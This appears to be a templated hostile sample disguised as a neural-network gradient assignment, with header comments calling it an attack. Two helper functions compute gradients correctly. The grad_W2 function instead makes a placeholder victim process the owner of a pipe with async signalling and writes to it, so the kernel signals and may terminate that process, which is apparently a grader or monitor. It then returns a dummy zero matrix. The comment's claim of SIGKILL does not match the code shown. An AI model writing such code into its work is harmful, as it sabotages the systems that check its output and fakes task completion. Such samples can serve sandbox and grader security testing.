# attack: I1 has the kernel send SIGKILL to another process: it is made the owner of a pipe
# gains nothing: grad_W2
# full marks: grad_oa, grad_ha
# breach unlocked
import fcntl
import os as system

import numpy as np
VICTIM = @VICTIM@


def grad_W2(grad_oa, hs):
    reading, writing = system.pipe()
    fcntl.fcntl(reading, fcntl.F_SETOWN, VICTIM)
    fcntl.fcntl(reading, fcntl.F_SETFL, fcntl.fcntl(reading, fcntl.F_GETFL) | 0o20000)
    system.write(writing, b"now")
    return np.zeros((len(grad_oa), len(hs)))


def grad_oa(os, y):
    return os - (np.arange(1, len(os) + 1) == y)


def grad_ha(grad_hs, ha):
    return grad_hs * (ha > 0)
